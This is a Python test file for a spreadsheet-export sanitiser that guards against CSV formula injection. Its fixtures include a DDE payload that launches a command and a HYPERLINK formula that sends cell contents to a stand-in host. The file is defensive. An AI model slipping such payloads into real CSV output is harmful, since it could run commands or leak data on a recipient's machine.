"""Files for spreadsheets hold words and numbers, and run nothing that somebody else wrote."""

import csv
import io
import json

import httpx
import pytest

from istograph.web.spreadsheets import without_formulas

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"Chemical Society")'


def _names(answer: httpx.Response) -> set[str]:
    assert answer.status_code == 200
    return {row["name"] for row in csv.DictReader(io.StringIO(answer.text))}


@pytest.mark.parametrize(
    ("cell", "kept"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("-5", "-5"),
        ("+1,234.5", "+1,234.5"),
        ("–", "–"),
        ("INBAR = 国际竹藤组织", "INBAR = 国际竹藤组织"),
    ],
)
def test_a_formula_becomes_a_text_and_a_number_stays_one(cell: str, kept: str) -> None:
    text = io.StringIO(newline="")
    csv.writer(text).writerow([cell, "x"])

    assert next(csv.reader(io.StringIO(without_formulas(text.getvalue()), newline=""))) == [
        kept,
        "x",
    ]


def test_a_form_brings_no_formula_into_a_spreadsheet(client: httpx.Client) -> None:
    described = json.dumps({"id": "x", "name": FORMULA, "facts": []})
    form = {"description": described, "download": "csv"}
    answer = client.post("/classify?format=csv", data=form)

    assert _names(answer) == {f"'{FORMULA}"}


def test_a_program_gets_the_name_that_it_sent(client: httpx.Client) -> None:
    described = {"id": "x", "name": FORMULA, "facts": []}
    answer = client.post("/classify", json=described, headers={"Accept": "text/csv"})

    assert _names(answer) == {FORMULA}
